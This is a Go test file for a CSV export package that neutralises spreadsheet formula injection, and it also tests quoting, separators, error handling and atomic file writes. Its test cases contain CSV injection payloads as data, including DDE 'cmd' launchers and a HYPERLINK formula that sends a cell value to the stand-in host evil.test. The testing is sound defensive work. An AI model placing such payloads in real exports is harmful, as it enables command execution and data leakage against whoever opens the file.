package csvsafe

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"plain name", "Bjørn Øster", "Bjørn Øster"},
		{"hyperlink formula", `=HYPERLINK("http://evil.test","click")`, `'=HYPERLINK("http://evil.test","click")`},
		{"plus formula", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at function", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab first", "\t=1+1", "'\t=1+1"},
		{"carriage return first", "\r=1+1", "'\r=1+1"},
		{"line feed first", "\n=1+1", "'\n=1+1"},
		{"spaces before the sign", "  =1+1", "'  =1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"sign alone", "-", "'-"},
		{"negative amount", "-12.50", "-12.50"},
		{"positive amount", "120.50", "120.50"},
		{"signed whole number", "+3", "+3"},
		{"zero", "0", "0"},
		{"sum of numbers is a formula", "-1+2", "'-1+2"},
		{"exponent is not a plain number", "-12.50e3", "'-12.50e3"},
		{"reference is not a number", "-A1", "'-A1"},
		{"point without digits", "-12.", "'-12."},
		{"sign inside is fine", "Jean-Luc = hero", "Jean-Luc = hero"},
		{"iban", "DE89370400440532013000", "DE89370400440532013000"},
		{"date", "2025-04-01", "2025-04-01"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Cell(c.in); got != c.want {
				t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	rows := [][]string{
		{"number", "partner", "net"},
		{"2025-0001", `=HYPERLINK("http://evil.test?"&A1,"click")`, "-12.50"},
		{"2025-0002", "Łukasz, Söhne", "0.01"},
		{"2025-0003", "a;=1+1", "7"},
		{"2025-0004", " padded", ""},
		{"2025-0005", "two\nlines", "+3"},
	}
	var b bytes.Buffer
	if err := NewWriter(&b).WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	want := "number,partner,net\n" +
		`2025-0001,"'=HYPERLINK(""http://evil.test?""&A1,""click"")",-12.50` + "\n" +
		`2025-0002,"Łukasz, Söhne",0.01` + "\n" +
		`2025-0003,"a;=1+1",7` + "\n" +
		`2025-0004," padded",` + "\n" +
		"2025-0005,\"two\nlines\",+3\n"
	if b.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", b.String(), want)
	}
	// A CSV reader gets the cells back, the formula as text.
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rows[1][1] = "'" + rows[1][1]
	if !reflect.DeepEqual(got, rows) {
		t.Errorf("read back %q, want %q", got, rows)
	}
}

func TestWriterSeparatorAndLineEnd(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	w.Comma, w.UseCRLF = ';', true
	w.Write([]string{"a,b", "@x", "-1.5"})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if want := "\"a,b\";'@x;-1.5\r\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterError(t *testing.T) {
	w := NewWriter(failing{})
	w.Write([]string{"x"})
	if err := w.Flush(); err == nil || w.Error() == nil {
		t.Fatalf("flush to a failing writer: %v", err)
	}
	if err := w.Write([]string{"y"}); err == nil {
		t.Error("write after an error succeeded")
	}
}

func TestWriteFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.csv")
	if err := os.WriteFile(path, []byte("before\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	failed := errors.New("the database went away")
	err := WriteFile(path, func(w io.Writer) error {
		io.WriteString(w, "half a file")
		return failed
	})
	if !errors.Is(err, failed) {
		t.Fatalf("err = %v", err)
	}
	if b, _ := os.ReadFile(path); string(b) != "before\n" {
		t.Errorf("a failed export changed the file: %q", b)
	}
	if err := WriteFile(path, func(w io.Writer) error { _, err := io.WriteString(w, "a,b\n"); return err }); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(path); string(b) != "a,b\n" {
		t.Errorf("file = %q", b)
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(path), ".partnerbook-export-*")); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}
}
